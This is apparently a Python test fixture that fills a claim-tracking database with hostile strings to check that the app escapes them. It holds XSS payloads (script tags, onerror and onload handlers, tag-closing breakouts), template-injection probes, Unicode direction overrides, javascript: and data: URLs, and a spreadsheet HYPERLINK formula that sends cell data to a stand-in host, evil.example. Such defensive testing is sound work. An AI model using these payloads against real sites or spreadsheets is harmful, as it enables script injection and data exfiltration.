"""A database in which every crawled string attacks: titles, quotes, addresses, authors, names, notes."""

from __future__ import annotations

from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

from counterclaim.db.records import Conflict, Evidence, FetchedBody
from counterclaim.db.store import Store
from counterclaim.extractors.records import Claim, Document, Extraction, Metadata

AT = "2025-08-13T06:00:00Z"
RUNS = "<script>window.ran=1</script>"
LOADS = "\"'><img src=x onerror=window.ran=1>"
DRAWS = "<svg onload=window.ran=1></svg>"
ENDS = "</title></style></script></textarea><!-- ]]> --><script>window.ran=1</script>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>"
TURNED = "\u202eevil\u202c\u2066"
ATTACKS = (RUNS, LOADS, DRAWS, ENDS, FORMULA, TEMPLATE, TURNED)
LONG = "without-a-break" * 40
NAMES = (f"Model {RUNS}", f"GPT-4{LOADS}", "a/b%2Fc~d?e#f&g=h", f"Modell {LONG}", TURNED, "..", "CON", "-1+1")
URLS = ("javascript:window.ran=1", f"https://a.example/{LOADS}", "data:text/html,<script>window.ran=1</script>", None)


def build(path: Path) -> Path:
    """Write the database: four sources with a page each, each model priced differently by all, all in conflict."""
    with Store.open(path) as store:
        run = store.start_run("run", "r1", AT)
        for number in range(4):
            _page(store, number)
        store.save_conflicts(_conflicts(store), AT)
        for found in store.conflicts()[:2]:
            store.add_review(found.id, "confirmed", "".join(ATTACKS), f"ada{RUNS}", at=AT)
        store.finish_run(run, AT, {"documents": 4})
    return path


def _page(store: Store, number: int) -> None:
    source, url = f"s{number}{LOADS}", URLS[number]
    lines, claims, start = [], [], 0
    for name in NAMES:
        for attribute, value in (
            ("input_price", Decimal(number + 1)),
            ("license", f"{RUNS}{number}"),
            ("price", Decimal(2)),
        ):
            beside = {"relation": "ratio", "object": f"other {RUNS}"} if attribute == "price" else {"relation": "is"}
            quote = f"{name} {ATTACKS[(number + len(lines)) % len(ATTACKS)]} {value}".replace("\n", " ")
            place = f"{RUNS} > {LOADS}"
            claim = Claim(
                f"page{number}", name, attribute, value=value, quote=quote, start=start, end=start + len(quote),
                url=url, locator=place, **beside,
            )  # fmt: skip
            lines.append(quote)
            claims.append(claim)
            start += len(quote) + 1
    text = "\n".join(lines)
    store.save_source(id=source, name=f"Source {number} {ENDS}", kind="site", base_url=url, at=AT)
    body = f"<html><body>{RUNS}{text}</body></html>".encode()
    saved = store.save_snapshot(FetchedBody(source, f"page{number}", body, "text/html", AT, url=url))
    meta = Metadata(f"Title {ENDS}", author=f"Author {LOADS}", published="2025-06-01")
    store.save_extraction(
        saved.id, Document(f"page{number}", text, meta=meta, url=url), Extraction(tuple(claims), (), "r1"), at=AT
    )


def _conflicts(store: Store) -> Iterator[Conflict]:
    by_model: dict[tuple[str, str], list[Evidence]] = {}
    for stored in store.claims():
        by_model.setdefault((stored.claim.subject, stored.claim.attribute), []).append(Evidence.of(stored))
    for number, ((name, attribute), evidence) in enumerate(sorted(by_model.items())):
        yield Conflict(
            id=f"{number:012x}", kind="value", scope="across", subject=name, attribute=attribute,
            severity=("high", "medium", "low")[number % 3], explanation=f"{name}: {ENDS} {LOADS}",
            object=f"other {RUNS}", evidence=tuple(evidence),
        )  # fmt: skip
